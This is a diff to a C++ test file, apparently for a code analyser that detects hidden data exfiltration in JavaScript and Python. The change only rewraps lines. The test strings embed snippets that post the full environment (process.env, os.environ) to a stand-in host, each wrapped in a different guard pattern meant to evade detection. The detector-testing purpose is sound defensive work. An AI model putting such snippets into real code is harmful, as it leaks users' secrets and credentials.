@@ -183,12 +183,17 @@ TEST(Evasion, Hostile_hooks_end) {
 }
 
 TEST(Evasion, Asking_whether_a_call_is_there_before_it_is_made_hides_nothing) {
-  const std::string_view tests[] = {"f && f(", "typeof f === 'function' && f(", "if (f) f(", "f ? f(0) : f(", "if (!f) {} else f("};
+  const std::string_view tests[] = {"f && f(", "typeof f === 'function' && f(", "if (f) f(",
+                                    "f ? f(0) : f(", "if (!f) {} else f("};
   for (const std::string_view test : tests) {
-    const Scene scene = javascript("const f = fetch; exports.later = () => { " + std::string(test) + "'https://a.example.test', {method: 'POST', body: process.env}) };");
+    const Scene scene =
+        javascript("const f = fetch; exports.later = () => { " + std::string(test) +
+                   "'https://a.example.test', {method: 'POST', body: process.env}) };");
     EXPECT_NE(scene.find(Act::send), nullptr) << test;
   }
-  const Scene scene = python("from os import environ\ndef later(url):\n  import requests as r\n  if r is not None and environ: r.post(url, data=environ)\n");
+  const Scene scene = python(
+      "from os import environ\ndef later(url):\n  import requests as r\n  if r is not None and "
+      "environ: r.post(url, data=environ)\n");
   EXPECT_NE(scene.find(Act::send), nullptr);
 }
 
